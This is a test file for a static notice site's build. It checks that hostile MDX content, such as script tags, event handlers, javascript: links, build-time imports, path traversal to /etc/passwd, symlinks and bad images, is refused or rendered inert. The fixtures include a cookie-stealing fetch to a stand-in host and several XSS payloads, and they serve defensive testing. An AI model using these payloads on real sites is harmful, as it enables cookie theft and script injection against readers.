/**
 * Bad and hostile input: bodies with code or active markup, paths and links leaving the
 * content folder, and images that are not images, are truncated or are too large all stop the
 * build with one message naming each file (and line:column or field); none of it is a stack
 * trace alone, and no content file is changed. Hostile text in frontmatter builds and is inert.
 * Prevents: a notice body running code at build time or in readers' browsers, content reading files
 * outside its folder, a damaged or huge image crashing the build (F11), and frontmatter shown as markup.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { astroBuild, astroSync, tempDir } from '../helpers/site.ts';
import { noticeMdx, snapshot, writeCorpus, writeImage, type FixtureNotice } from '../helpers/corpus.ts';
import { tagsOf } from '../../src/dist-check/html/scan.ts';

const base = (slug: string, i: number, extra: Partial<FixtureNotice> = {}): FixtureNotice => ({
  slug,
  id: `MO-2031-${String(i).padStart(4, '0')}`,
  tlp: 'CLEAR',
  title: `Case ${slug}`,
  sentinel: `Sentence of ${slug}.`,
  images: [{ file: 'photo.jpg', colour: [120, 120, 120], gps: false, width: 640, height: 480 }],
  ...extra,
});

let root: string;
let content: string;
let outside: string;
let result: { code: number; output: string };
let before: Map<string, string>;
/** Where the `esm-body` notice would write if its code ever ran: an absolute temp path, never a real folder. */
let marker: string;

beforeAll(async () => {
  root = tempDir('hostile');
  content = path.join(root, 'content');
  outside = path.join(root, 'elsewhere');
  marker = path.join(root, 'ran');
  const body = (lines: string[]) => `## How it was hidden\n\n${lines.join('\n\n')}\n`;
  await writeCorpus(content, [
    base('script-body', 1, { body: body(['Found in crates.', '<script>fetch("https://x.example/?"+document.cookie)</script>']) }),
    base('iframe-body', 2, { body: body(['<iframe src="https://evil.example/"></iframe>']) }),
    base('handler-body', 3, { body: body(['Look <span onMouseOver="steal()">here</span>.']) }),
    base('js-link-body', 4, { body: body(['[Open the report](javascript:alert(document.domain))']) }),
    base('esm-body', 5, {
      body: `import fs from 'node:fs'\n\nexport const ran = fs.writeFileSync(${JSON.stringify(marker)}, 'ran')\n\nText.\n`,
    }),
    base('expression-body', 6, { body: body(['Weight {process.exit(1)} kg.']) }),
    base('dotdot-image', 7, {
      images: [{ file: 'photo.jpg', colour: [1, 1, 1], gps: false }],
      data: { images: [{ src: '../script-body/photo.jpg', alt: 'x', kind: 'photo' }] },
    }),
    base('absolute-image', 8, { data: { images: [{ src: '/etc/passwd', alt: 'x', kind: 'photo' }] } }),
    base('linked-image', 9, { images: [] as never, data: { images: [{ src: 'linked.jpg', alt: 'x', kind: 'photo' }] } }),
    base('not-an-image', 10, { images: [], data: { images: [{ src: 'notes.jpg', alt: 'x', kind: 'photo' }] } }),
    base('truncated-image', 11, { images: [{ file: 'cut.jpg', colour: [9, 9, 9], gps: false, width: 640, height: 480 }] }),
    base('huge-image', 12, { images: [{ file: 'huge.png', colour: [9, 9, 9], gps: false, width: 1500, height: 1000 }] }),
    base('body-images', 14, {
      body: body(['A wide view of the port:', '![The port](huge-body.png)', 'And from next door: ![x](../script-body/photo.jpg)']),
    }),
  ]);
  await writeImage(path.join(content, 'notices/body-images/huge-body.png'), { colour: [3, 3, 3], gps: false, width: 1500, height: 1000 });
  // A notice folder that is a link to a folder outside the content folder.
  fs.mkdirSync(path.join(outside, 'linked-notice'), { recursive: true });
  fs.writeFileSync(
    path.join(outside, 'linked-notice/index.mdx'),
    noticeMdx(base('linked-notice', 13, { images: [{ file: 'p.jpg', colour: [5, 5, 5], gps: false }] })),
  );
  await writeImage(path.join(outside, 'linked-notice/p.jpg'), { colour: [5, 5, 5], gps: false, width: 64, height: 48 });
  fs.symlinkSync(path.join(outside, 'linked-notice'), path.join(content, 'notices/linked-notice'));
  // An image that is a link to a file outside the content folder.
  await writeImage(path.join(outside, 'secret.jpg'), { colour: [5, 5, 5], gps: false, width: 64, height: 48 });
  fs.symlinkSync(path.join(outside, 'secret.jpg'), path.join(content, 'notices/linked-image/linked.jpg'));
  fs.writeFileSync(path.join(content, 'notices/not-an-image/notes.jpg'), 'Officer notes: not a photo at all.\n');
  const cut = path.join(content, 'notices/truncated-image/cut.jpg');
  fs.writeFileSync(cut, fs.readFileSync(cut).subarray(0, 900));
  before = snapshot(content);
  // 1500 × 1000 = 1.5 megapixels, above a 1-megapixel limit set for this build.
  result = await astroSync(content, { MODUS_IMAGE_MAX_PIXELS: '1000000' });
});

afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

describe('hostile bodies, paths and images stop the build, each named', () => {
  it('fails with one readable report, not a bare stack trace', () => {
    expect(result.code).not.toBe(0);
    expect(result.output).toMatch(/\d+ problems in the content; nothing was built:/);
    expect(result.output).toContain('Hint:');
    // Bodies here mention `document`: Astro would swap in its hint about browser APIs; ours stays.
    expect(result.output).toMatch(/Hint:\n\s+Fix the fields named above/);
    expect(result.output).not.toContain('Browser APIs are not available');
  });

  it.each([
    ['script-body', /script-body\/index\.mdx:\d+:1 body: <script> is not allowed in a body/],
    ['iframe-body', /iframe-body\/index\.mdx:\d+:1 body: <iframe> is not allowed in a body/],
    ['handler-body', /handler-body\/index\.mdx:\d+:6 body: <span> has an event handler onMouseOver=/],
    ['js-link-body', /js-link-body\/index\.mdx:\d+:1 body: The link "javascript:alert\(document\.domain\)" uses the "javascript:" scheme/],
    ['esm-body', /esm-body\/index\.mdx:\d+:1 body: `import`\/`export` runs code when the site is built/],
    ['expression-body', /expression-body\/index\.mdx:\d+:8 body: "\{process\.exit\(1\)\}" is a JavaScript expression/],
  ])('%s: refused with file:line:column', (_, pattern) => {
    expect(result.output).toMatch(pattern);
  });

  it('gives the line of the file, counting the frontmatter', () => {
    const lines = fs.readFileSync(path.join(content, 'notices/script-body/index.mdx'), 'utf8').split('\n');
    const line = lines.findIndex((l) => l.startsWith('<script>')) + 1;
    expect(result.output).toContain(`script-body/index.mdx:${line}:1 body: <script>`);
  });

  it.each([
    ['dotdot-image', /dotdot-image\/index\.mdx\n\s+images\[0\]\.src: Image path "\.\.\/script-body\/photo\.jpg" leaves the notice folder/],
    ['absolute-image', /absolute-image\/index\.mdx\n\s+images\[0\]\.src: Image path "\/etc\/passwd" is absolute/],
  ])('%s: a path leaving the notice folder is refused', (_, pattern) => {
    expect(result.output).toMatch(pattern);
  });

  it('links leaving the content folder are refused (a notice folder, an image)', () => {
    expect(result.output).toMatch(
      /linked-notice\/index\.mdx\n\s+\(file\): The entry is a link to .*elsewhere\/linked-notice\/index\.mdx, outside the content folder/,
    );
    expect(result.output).toMatch(/images\[0\]\.src: Image "linked\.jpg" is a link to a file outside the content folder/);
  });

  it('a file that is not an image, a truncated image and an image above the pixel limit are named (F11)', () => {
    expect(result.output).toMatch(/not-an-image\/index\.mdx\n\s+images\[0\]\.src: "notes\.jpg" is not an image that can be read/);
    expect(result.output).toMatch(
      /truncated-image\/index\.mdx\n\s+images\[0\]\.src: "cut\.jpg" is (incomplete|a JPEG file that cannot be read)/,
    );
    expect(result.output).toMatch(
      /huge-image\/index\.mdx\n\s+images\[0\]\.src: "huge\.png" is 1500×1000 pixels \(1\.5 megapixels\), above the limit of 1\.0 megapixels \(MODUS_IMAGE_MAX_PIXELS\)/,
    );
  });

  it('images in a body are refused at their line: images go in the images list', () => {
    const lines = fs.readFileSync(path.join(content, 'notices/body-images/index.mdx'), 'utf8').split('\n');
    const at = (needle: string) =>
      `${lines.findIndex((l) => l.includes(needle)) + 1}:${lines.find((l) => l.includes(needle))!.indexOf('![') + 1}`;
    expect(result.output).toContain(
      `body-images/index.mdx:${at('huge-body.png')} body: An image in the body is not allowed: images belong in the images list`,
    );
    expect(result.output).toContain(`body-images/index.mdx:${at('../script-body')} body: An image in the body is not allowed`);
  });

  it('refuses the import and the export of the hostile body at their lines, and the body ran nothing', () => {
    const lines = fs.readFileSync(path.join(content, 'notices/esm-body/index.mdx'), 'utf8').split('\n');
    const lineOf = (start: string) => lines.findIndex((l) => l.startsWith(start)) + 1;
    expect(lineOf('import fs')).toBeGreaterThan(1);
    expect(lineOf('export const ran')).toBeGreaterThan(lineOf('import fs'));
    for (const line of [lineOf('import fs'), lineOf('export const ran')]) {
      expect(result.output).toContain(`esm-body/index.mdx:${line}:1 body: \`import\`/\`export\` runs code when the site is built`);
    }
    expect(fs.existsSync(marker)).toBe(false);
  });

  it("changed no content file (nothing of an editor's is lost)", () => {
    expect(snapshot(content)).toEqual(before);
  });
});

describe('hostile text in frontmatter is rendered inert', () => {
  let dist: string;
  let built: { code: number; output: string };
  const HOSTILE_TITLE = '<script>alert("t")</script> Cocaine in <b>boots</b>';
  const HOSTILE_SUMMARY = 'Summary with <img src=x onerror=alert("s")> and "><svg onload=alert(1)>.';

  beforeAll(async () => {
    const dir = path.join(root, 'frontmatter');
    await writeCorpus(path.join(dir, 'content'), [
      base('hostile-frontmatter', 20, {
        title: HOSTILE_TITLE,
        data: {
          summary: HOSTILE_SUMMARY,
          keywords: ['javascript:alert(1)', '<iframe src=//evil.example>'],
          indicators: ['<a href="javascript:alert(2)">click</a>'],
          images: [{ src: 'photo.jpg', alt: '" onerror="alert(3)', caption: '<script>alert(4)</script>', kind: 'photo' }],
        },
      }),
    ]);
    dist = path.join(dir, 'dist');
    built = await astroBuild(path.join(dir, 'content'), dist);
  });

  it('builds, and the dist check finds no script, handler or other host in any page', () => {
    expect(built.code, built.output).toBe(0);
    expect(built.output).toContain('dist check passed');
  });

  it('shows the text literally (escaped), never as markup', () => {
    const html = fs.readFileSync(path.join(dist, 'notices/hostile-frontmatter/index.html'), 'utf8');
    expect(html).toContain('&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt; Cocaine in &lt;b&gt;boots&lt;/b&gt;');
    // As markup: no script, frame, image or drawing came from the text, and no event handler or javascript: URL.
    const tags = tagsOf(html);
    expect(tags.filter((t) => ['script', 'iframe', 'svg'].includes(t.name))).toEqual([]);
    expect(tags.filter((t) => t.name === 'img' && t.attrs.get('src') === 'x')).toEqual([]);
    expect(tags.flatMap((t) => [...t.attrs.keys()].filter((k) => k.startsWith('on')))).toEqual([]);
    expect(tags.filter((t) => /^\s*javascript:/i.test(t.attrs.get('href') ?? ''))).toEqual([]);
    // Inside a quoted attribute the text stays text (`<` needs no escaping there).
    expect(tags.find((t) => t.name === 'meta' && t.attrs.get('name') === 'description')!.attrs.get('content')).toBe(HOSTILE_SUMMARY);
  });
});
